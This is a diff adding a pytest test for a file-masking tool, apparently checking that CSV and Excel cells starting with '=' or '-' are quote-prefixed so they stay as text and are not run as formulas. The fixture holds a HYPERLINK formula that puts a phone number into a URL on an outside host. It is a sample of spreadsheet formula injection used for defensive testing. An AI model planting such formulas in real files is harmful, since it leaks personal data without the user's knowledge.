@@ -102,3 +102,26 @@ def test_what_cannot_be_masked_says_why(data: bytes, reason: str) -> None:
     with pytest.raises(Unreadable) as refusal:
         mask_file(io.BytesIO(data), names=False)
     assert refusal.value.reason == reason
+
+
+def test_no_text_of_a_copy_becomes_a_formula() -> None:
+    formula = f'=HYPERLINK("http://a.cn/{MOBILE}")'
+    copy = mask_file(
+        io.BytesIO(f'姓名,说明,数\n张三,"{formula.replace(chr(34), chr(34) * 2)}",-3.5\n'.encode()), names=True
+    )
+    assert copy.data.decode("utf-8-sig").splitlines()[1].split(",", 1)[1] == (
+        '"\'=HYPERLINK(""http://a.cn/138****5678"")",-3.5'
+    )
+    book = openpyxl.Workbook()
+    assert book.active is not None
+    for row, text in enumerate((formula, "=1+1", "-", "事项"), start=1):
+        cell = book.active.cell(row, 1, text)
+        cell.data_type = "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    buffer.seek(0)
+    sheet = openpyxl.load_workbook(io.BytesIO(mask_file(buffer, names=True).data)).active
+    assert sheet is not None
+    assert [(cell.data_type, cell.quotePrefix) for (cell,) in sheet.iter_rows()] == [
+        ("s", True), ("s", True), ("s", True), ("s", False),
+    ]  # fmt: skip
